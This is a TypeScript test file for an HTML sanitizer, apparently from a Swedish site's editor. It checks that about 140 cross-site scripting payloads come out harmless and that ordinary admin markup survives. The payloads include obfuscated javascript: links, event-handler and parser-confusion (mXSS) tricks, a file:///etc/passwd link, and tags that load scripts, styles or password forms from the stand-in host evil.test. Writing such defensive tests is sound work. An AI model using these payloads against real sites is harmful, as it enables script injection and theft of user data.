import { Window } from 'happy-dom'
import { describe, expect, test } from 'vitest'
import { sanitize } from './sanitize.ts'

const tags =
  'P BR H2 H3 H4 STRONG B EM I U S SUP SUB UL OL LI BLOCKQUOTE HR A IMG CODE PRE TABLE THEAD TBODY TR TH TD ASIDE DETAILS SUMMARY DIV'.split(
    ' ',
  )
const attributes: Record<string, string[]> = {
  A: ['href', 'rel'],
  P: ['data-button'],
  ASIDE: ['role'],
  DIV: ['data-list'],
  OL: ['start', 'reversed', 'type'],
  LI: ['value'],
  IMG: ['src', 'alt', 'width', 'height'],
  TH: ['scope', 'colspan', 'rowspan'],
  TD: ['colspan', 'rowspan'],
}
const picture = `/media/${'a'.repeat(32)}-800x400/800.webp`

/** @returns the forbidden elements and attributes that a browser makes of the HTML; none when it is safe. */
function dangers(html: string): string[] {
  const { document } = new Window({
    url: 'https://gille.example/',
    settings: { disableJavaScriptEvaluation: true },
  })
  document.body.innerHTML = html
  return [...document.body.querySelectorAll('*')].flatMap((element) => {
    const name = element.tagName
    const forbidden = tags.includes(name) ? [] : [`<${name}>`]
    if (name === 'A' && !element.getAttribute('href')) forbidden.push('a link that leads nowhere')
    for (const { name: attribute, value: attributeValue } of element.attributes) {
      const value = attributeValue ?? ''
      if (!attributes[name]?.includes(attribute)) forbidden.push(`${name} ${attribute}`)
      const scheme = attribute === 'href' ? /^(https?:\/\/|mailto:|tel:|#|\/(?![/\\\s]))/i : null
      if (scheme && !scheme.test(value)) forbidden.push(`href ${value}`)
      if (attribute === 'scope' && !/^(col|row)$/.test(value)) forbidden.push(`scope ${value}`)
      if (/span$/.test(attribute) && !/^\d{1,3}$/.test(value)) forbidden.push(`${attribute} ${value}`)
      if (attribute === 'src' && !/^\/media\/[\w-]+\/\d+\.webp$/.test(value)) forbidden.push(`src ${value}`)
    }
    return forbidden
  })
}

const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script\n>',
  '<script>alert(1)',
  '</script><script>alert(1)</script>',
  '<script type="application/json">{"x":"</script><script>alert(1)</script>"}',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"//>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onload\n=\nalert(1)>',
  `<img src="${picture}" onload=alert(1)>`,
  `<img src="${picture}" srcset="//evil.test/x 2x">`,
  '<img src="javascript:alert(1)">',
  '<img src="https://evil.test/pixel.gif">',
  '<img src="//evil.test/pixel.gif">',
  '<img src="/media/../api/posts/">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="/media/x/1.webp" style="position:fixed">',
  '<image src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="javascript&#x3a;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="\\\\evil.test">x</a>',
  '<a href="/\\evil.test">x</a>',
  '<a href="/\t/evil.test">x</a>',
  '<a href="/\n\r/evil.test">x</a>',
  '<a href="/&#9;/evil.test">x</a>',
  '<a href="ht\ntps://a.se">x</a>',
  '<a href="">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://gille.example/x">x</a>',
  '<a href="ftp://evil.test">x</a>',
  '<a href="https://a.se" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<a href="https://a.se" target="_blank" ping="//evil.test" download>x</a>',
  '<a href=https://a.se style=color:red class=x id=y name=z>x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1)>',
  '<svg><use href="data:image/svg+xml,x#y"></use></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<style>@import "//evil.test/x.css"; *{background:url(//evil.test)}</style>',
  '<style><!--</style><script>alert(1)//--></script>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))" class="x" id="root">x</p>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<link rel=import href=x>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Set-Cookie" content="a=b">',
  '<base href="//evil.test/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=//evil.test>',
  '<frameset><frame src=//evil.test></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<form action="//evil.test"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<textarea></textarea><script>alert(1)</script>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<button onclick=alert(1)>x</button>',
  '<video><source onerror="alert(1)"></video>',
  '<video src=x onerror=alert(1) poster=javascript:alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<details open ontoggle=alert(1)><summary onclick=alert(1)>x<svg onload=alert(1)></summary><script>y</script></details>',
  '<p data-button="\'><script>alert(1)</script>" onclick=alert(1)><a href="javascript:alert(1)">x</a></p>',
  '<p data-button><a href="https://a.se" onclick=alert(1)><img src=x onerror=alert(1)>x</a></p>',
  '<aside role="note" onclick=alert(1) aria-label="<script>"><iframe src=//evil.test></iframe>x</aside>',
  '<div data-list="x\' onclick=alert(1)"><a href="/x" onclick=alert(1)>x</a></div>',
  '<section data-list="../../api"><a href="//evil.test">x</a></section>',
  '<aside role="application"><p>x</p></aside>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<html xmlns:x="x" onclick=alert(1)>',
  '<div onpointerenter=alert(1) contenteditable>x</div>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE x [<!ENTITY y "z">]><p>&y;</p>',
  '<p><a href="https://a.se"><a href="javascript:alert(1)">x</a></a></p>',
  '<p title="a>b" onclick="alert(1)">x</p>',
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  '<p "onclick=alert(1)">x</p>',
  '<p\u000conclick=alert(1)>x</p>',
  '<p/onclick=alert(1)/>x',
  '<<p onclick=alert(1)>>x',
  '<img alt="`onerror=alert(1)//`" src=x>',
  '<\u0000script>alert(1)</script>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<slot name=x></slot><portal src=x>',
  '<a href="https://a.se"><img src=x onerror=alert(1)></a>',
  '<table background="javascript:alert(1)"><td background=x>x</table>',
  '<table><tr onclick=alert(1)><td style=x class=y id=z onmouseover=alert(1) bgcolor=red headers=root>x',
  '<table><tr><td><table><tr><td><script>alert(1)</script><img src=x onerror=alert(1)></table></table>',
  '<table><script>alert(1)</script><tr><td>x</table>',
  '<table><svg onload=alert(1)><tr><td>x</svg></table>',
  '<table><tr><img src=x onerror=alert(1)><td>x</table>',
  '<table><caption onclick=alert(1)><a href=javascript:alert(1)>x</a></caption><tr><th scope="javascript:x">y</table>',
  '<table><colgroup><col style="width:1px" onclick=alert(1)></colgroup><tr><td>x</table>',
  '<table><form action=//evil.test><tr><td><input name=password></table>',
  '<td onclick=alert(1)>x</td><tr><th>y</th></tr><tbody><td>z',
  '<select><table><tr><td onclick=alert(1)>x</select>',
  '<ul><table><li onclick=alert(1)><tr><td>x</ul></table>',
  '<p><table><p onclick=alert(1)>x</table></p>',
  '<a href="https://a.se"><table><tr><td><a href="javascript:alert(1)">x</table></a>',
  '<table><tr><td colspan=1e9 rowspan=-1>x<td colspan="2;x" rowspan=0>y</table>',
  '<math><mtext><table><tr><td><mglyph><style><img src=x onerror=alert(1)></style>',
  '<table><tr><td><![CDATA[</td>]]><img src=x onerror=alert(1)><!--</table>-->',
  '<li><script>alert(1)</script><ul><li onclick=alert(1)>x',
  '<a href="&#x0000106&#x0000097vascript:alert(1)">x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
]

describe('a hostile text', () => {
  test.each(vectors)('%s is harmless afterwards, and stays as it is when written again', (html) => {
    const safe = sanitize(html)
    expect(dangers(safe)).toEqual([])
    expect(dangers(`<p>${safe}</p><ul><li>${safe}`)).toEqual([])
    expect(sanitize(safe)).toBe(safe)
    expect(safe.toLowerCase()).not.toMatch(/<script|<style|<svg|<math|<iframe/)
  })

  test('would be found by this test if it came through', () => {
    const dangerous = vectors.filter((html) => dangers(html).length > 0)
    expect(dangerous.length).toBeGreaterThan(85)
  })
})

describe('what an administrator writes', () => {
  test.each([
    '<h2>Rubrik</h2><p>Text med <strong>fet</strong>, <em>kursiv</em>, <u>under</u> och <s>över</s>.</p>',
    '<ul><li>ett</li><li>två</li></ul><ol><li>1</li></ol>',
    '<ol start="3" type="a"><li>§ 3 c</li><li value="7">§ 3 g</li></ol>',
    '<ol reversed="reversed"><li>två</li><li>ett</li></ol>',
    '<p>10<sup>6</sup> m<sup>2</sup> H<sub>2</sub>O</p>',
    '<blockquote><p>Citat</p></blockquote><hr /><pre><code>a &lt; b</code></pre>',
    '<p>rad<br />rad</p>',
    `<p><img src="${picture}" alt="Bild" width="800" height="400" /></p>`,
    '<p>50 &amp; 60 &lt; 70 "citat" å ä ö 🍺</p>',
    '<p><a href="https://example.se/?a=1&amp;b=2#c" rel="noopener">länk</a></p>',
    '<p><a href="mailto:a@b.se" rel="noopener">mejl</a> <a href="tel:+4670" rel="noopener">ring</a></p>',
    '<p><a href="/om-oss" rel="noopener">om oss</a></p>',
    'Bara text',
  ])('%s stays as it is', (html) => {
    expect(sanitize(html)).toBe(html)
  })

  test('a heading of the first rank becomes one of the second, and a link is told not to open back', () => {
    expect(sanitize('<h1>Rubrik</h1>')).toBe('<h2>Rubrik</h2>')
    expect(sanitize('<a href="https://a.se">x</a>')).toBe('<a href="https://a.se" rel="noopener">x</a>')
  })

  test('what another program writes in other words means the same', () => {
    expect(sanitize('<h5>a</h5><h6>b</h6>')).toBe('<h4>a</h4><h4>b</h4>')
    expect(sanitize('<del>a</del><strike>b</strike><ins>c</ins>')).toBe('<s>a</s><s>b</s><u>c</u>')
    expect(sanitize('<div>a</div><section>b<p>c</p></section>')).toBe('a  b<p>c</p>')
    expect(sanitize('<dl><dt>a</dt><dd>b</dd></dl>')).toMatch(/^a +b$/)
    expect(sanitize('<ol start="x" type="disc"><li value="1e9">a</li></ol>')).toBe('<ol><li>a</li></ol>')
  })

  test('the text within a tag that is dropped stays, but not that of a script or a style', () => {
    expect(sanitize('<div><font color=red>hej</font></div>')).toBe('hej')
    expect(sanitize('<script>hej</script><style>hej</style><textarea>hej</textarea>')).not.toContain('hej')
  })
})
